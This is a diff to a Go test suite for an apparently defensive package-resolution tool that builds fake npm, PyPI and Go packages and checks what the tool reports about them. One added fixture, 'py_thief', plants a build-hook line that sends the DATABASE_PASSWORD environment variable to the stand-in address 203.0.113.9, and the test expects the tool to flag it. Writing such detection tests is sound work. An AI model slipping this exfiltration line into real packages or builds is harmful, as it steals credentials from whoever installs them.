@@ -18,19 +18,20 @@ import (
 )
 
 // publishSource publishes the source of a package of Python that brings a build of its own, which leaves a mark.
-func (w *world) publishSource(t *testing.T, name, version, mark string) {
+func (w *world) publishSource(t *testing.T, name, version, mark, code string) {
 	t.Helper()
 	index := strings.ReplaceAll(name, "_", "-")
 	info := fmt.Sprintf("%s-%s.dist-info/", name, version)
 	build := fmt.Sprintf(`import os, zipfile
 try: open(%q, "w").close()
 except OSError: pass
+%s
 FILES = {%q: %q, %q: "Metadata-Version: 2.1\nName: %s\nVersion: %s\n", %q: "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n", %q: "[console_scripts]\n%s = server:main\n", %q: ""}
 def build_wheel(d, c=None, m=None):
     with zipfile.ZipFile(d + "/%s-%s-py3-none-any.whl", "w") as z:
         for n, text in FILES.items(): z.writestr(n, text)
     return "%s-%s-py3-none-any.whl"
-`, mark, "server.py", pythonServer("", echo), info+"METADATA", name, version, info+"WHEEL", info+"entry_points.txt", name, info+"RECORD", name, version, name, version)
+`, mark, code, "server.py", pythonServer("", echo), info+"METADATA", name, version, info+"WHEEL", info+"entry_points.txt", name, info+"RECORD", name, version, name, version)
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
 	out := tar.NewWriter(z)
@@ -75,8 +76,9 @@ func TestDependenciesThatAreOdd(t *testing.T) {
 	w.publishNPM(t, "deeper", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"by-git": "1.0.0"}}), server)
 	w.publishNPM(t, "bundling", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"x": "1.0.0"}, "bundleDependencies": []any{"x"}}), files{"index.js": server["index.js"], "node_modules/x/package.json": `{"name":"x","version":"1.0.0"}`})
 	w.publishPyPI(t, "py-old", "0.3", "", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_old = server:main\n"})
-	w.publishSource(t, "py_old", "0.4", mark)
-	w.publishSource(t, "py_built", "1.0", mark)
+	w.publishSource(t, "py_old", "0.4", mark, "")
+	w.publishSource(t, "py_built", "1.0", mark, "")
+	w.publishSource(t, "py_thief", "1.0", mark, `import socket; socket.create_connection(("203.0.113.9", 443), 5).sendall(os.environ["DATABASE_PASSWORD"].encode())`)
 	w.publishPyPI(t, "py-hidden", "1.0", " \nRequires-Dist: py_built @ "+w.URL+"/wheels/py_built-1.0.tar.gz\n", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_hidden = server:main\n"})
 	w.publishPyPI(t, "py-platforms", "1.0", "Requires-Dist: winthing; sys_platform == 'win32'\nRequires-Dist: more; extra == 'all'\n", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_platforms = server:main\n"})
 
@@ -96,6 +98,7 @@ func TestDependenciesThatAreOdd(t *testing.T) {
 		{"npm:bundling", "GNT-607", "bundled x@1.0.0", "1 packages that it depends on"},
 		{"pypi:py-old", "GNT-601", "", "py-old@0.4"},
 		{"pypi:py-old==0.3", "", "", "py-old@0.3"},
+		{"pypi:py-thief", "GNT-501 GNT-601 GNT-607", "address py-thief@1.0", ""},
 		{"pypi:py-hidden", "GNT-601 GNT-607", "address py-built@1.0", "1 packages that it depends on"},
 		{"pypi:py-platforms", "", "absent winthing", "0 packages that it depends on"},
 	} {
@@ -136,7 +139,7 @@ func TestNothingIsResolvedWithoutSandbox(t *testing.T) {
 	w.publishNPM(t, "weather", "1.0.0", nodeManifest(map[string]any{"dependencies": map[string]any{"part": "1.0.0"}}), files{"index.js": nodeServer("", echo)})
 	w.publish(func() { w.archive["/npm/part"] = nil }) // asking for it would never end
 	w.publishPyPI(t, "py-old", "0.3", "", files{"server.py": pythonServer("", echo)})
-	w.publishSource(t, "py_old", "0.4", mark)
+	w.publishSource(t, "py_old", "0.4", mark, "")
 	w.publishGo(t, "example.org/weather", "v1.0.0", files{"go.mod": goMod, "main.go": goServer(echo)})
 	for _, target := range []string{"npm:weather", "pypi:py-old==0.3", "go:example.org/weather"} {
 		t.Run(target, func(t *testing.T) {
